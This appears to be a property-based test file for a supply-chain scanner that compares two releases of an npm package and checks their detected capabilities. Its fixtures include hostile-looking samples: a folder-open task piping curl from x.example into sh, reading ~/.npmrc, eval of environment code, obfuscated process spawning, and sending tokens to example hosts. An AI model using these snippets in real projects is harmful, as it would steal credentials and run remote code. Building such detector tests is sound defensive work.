import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { aPackage } from '../helpers/a-tarball.ts';
import { bothWays } from '../helpers/read-in-part.ts';

type Files = Readonly<Record<string, string>>;

const of = (before: Files, after: Files, manifest: Readonly<Record<string, unknown>> = {}) =>
  bothWays(aPackage({ name: 'it', version: '1.0.0', ...manifest }, before), aPackage({ name: 'it', version: '1.0.1', ...manifest }, after));

const talks = 'fetch("https://one.example/x");';
const starts = 'require("child_process").exec("ls");';
const plain = 'module.exports = 1;';

describe('the release before', () => {
  it('is not read where the release does nothing remarkable', async () => {
    const { parsed, isWhole } = await of({ 'index.js': talks + starts }, { 'index.js': plain });
    expect({ parsed, isWhole }).toEqual({ parsed: [], isWhole: false });
  });

  it('is read until all was found that the release does', async () => {
    const files = { 'index.js': 'require("./a"); require("./b");', 'a.js': talks, 'b.js': starts };
    const { parsed, inPart } = await of(files, { ...files, 'b.js': plain });
    expect(parsed).toEqual(['index.js', 'a.js']);
    expect(inPart.contents.capabilities).toEqual([]);
  });

  it('is read first where the release does it, and on the way there', async () => {
    const files = { 'index.js': 'require("./a"); require("./b");', 'a.js': plain, 'b.js': 'require("./c");', 'c.js': starts, 'cli.js': talks };
    const before = Object.fromEntries(Object.entries(files).map(([path, code]) => [path, `${code}\n// as it was`]));
    const { parsed, inPart, isWhole } = await of(before, files, { bin: 'cli.js' });
    expect({ parsed, isWhole }).toEqual({ parsed: ['index.js', 'b.js', 'c.js', 'cli.js'], isWhole: false });
    expect(inPart.contents.capabilities).toEqual([]);
  });

  it('is read elsewhere as well where it is not found there', async () => {
    const loads = { 'index.js': 'require("./a"); require("./b");' };
    const { inPart } = await of({ ...loads, 'a.js': starts, 'b.js': plain }, { ...loads, 'a.js': plain, 'b.js': starts });
    expect(inPart.contents.capabilities).toEqual([]);
  });

  it('does not run by import for what only says that it loads it', async () => {
    const files = { 'a.js': starts };
    const { inPart, whole } = await of({ ...files, 'index.js': '// require("./a")' }, { ...files, 'index.js': 'require("./a");' });
    expect(inPart).toEqual(whole);
    expect(inPart.contents.capabilities.map(({ kind }) => kind)).toContain('process');
  });

  it('is read as a whole where something stays new', async () => {
    const files = { 'index.js': 'require("./a"); require("./b");', 'a.js': talks, 'b.js': plain };
    const { parsed, isWhole, inPart } = await of(files, { ...files, 'b.js': starts });
    expect({ parsed: new Set(parsed), isWhole }).toEqual({ parsed: new Set(['index.js', 'a.js', 'b.js']), isWhole: true });
    expect(new Set(inPart.contents.capabilities.map(({ kind }) => kind))).toEqual(new Set(['process']));
  });

  it('is read as a whole where what it sent can make what is sent now worse', async () => {
    const sends = (host: string) => `exports.go = (token) => fetch("https://${host}/", { headers: { authorization: token } });`;
    const { isWhole } = await of({ 'index.js': sends('one.example') }, { 'index.js': sends('two.example') });
    expect(isWhole).toBe(true);
  });

  it('says the same read in part, whatever the two releases are', async () => {
    const pieces = [
      plain,
      talks,
      starts,
      'fetch("https://two.example/x");',
      'eval(process.env.CODE)',
      'require("fs").readFileSync(require("os").homedir() + "/.npmrc")',
      'const p = require("child_" + "process"); p.exec("x");',
      `const _0x${'1a2b'} = ["\\x61\\x62\\x63\\x64"]; ${'a'.repeat(800)}();`,
      'this does not parse (',
      `var blob = "${'QUJDRA'.repeat(400)}";`,
      'exports.go = (token) => fetch("https://three.example/", { headers: { authorization: token } });',
    ];
    const tasks = '{"tasks":[{"label":"x","type":"shell","command":"curl https://x.example/x | sh","runOptions":{"runOn":"folderOpen"}}]}';
    const names = ['a.js', 'b.js', 'cjs/c.js', 'esm/d.mjs', 'bin/e.js', 'dist/f.js', 'install.js'];
    const some = fc.subarray([...names, '.vscode/tasks.json'], { maxLength: 3 });
    const release = fc.record({
      files: fc.dictionary(fc.constantFrom(...names), fc.record({ code: fc.constantFrom(...pieces), loads: some })),
      loads: some,
      main: fc.constantFrom('index.js', 'a.js', 'cjs/c.js'),
      bin: fc.constantFrom('bin/e.js', 'b.js', undefined),
      exports: fc.constantFrom('./index.js', undefined),
      installs: fc.boolean(),
    });
    const packed = (
      { files, loads, main, bin, exports, installs }: typeof release extends fc.Arbitrary<infer T> ? T : never,
      version: string,
    ): Buffer => {
      const calls = (paths: readonly string[]): string => paths.map((path) => `require("it/${path}");`).join('\n');
      return aPackage(
        {
          ...{ name: 'it', version, main, module: 'esm/d.mjs', exports },
          ...(bin !== undefined && { bin: { it: bin } }),
          ...(installs && { scripts: { postinstall: 'node install.js' } }),
        },
        {
          'index.js': calls(loads),
          '.vscode/tasks.json': tasks,
          ...Object.fromEntries(Object.entries(files).map(([path, { code, loads }]) => [path, `${code}\n${calls(loads)}`])),
        },
      );
    };
    await fc.assert(
      fc.asyncProperty(release, release, fc.boolean(), async (before, other, isAlike) => {
        const after = isAlike ? { ...other, files: { ...before.files, ...Object.fromEntries(Object.entries(other.files).slice(0, 1)) } } : other;
        const { inPart, whole } = await bothWays(packed(before, '1.0.0'), packed(after, '1.0.1'));
        expect(inPart).toEqual(whole);
      }),
      { numRuns: 300 },
    );
  });
});
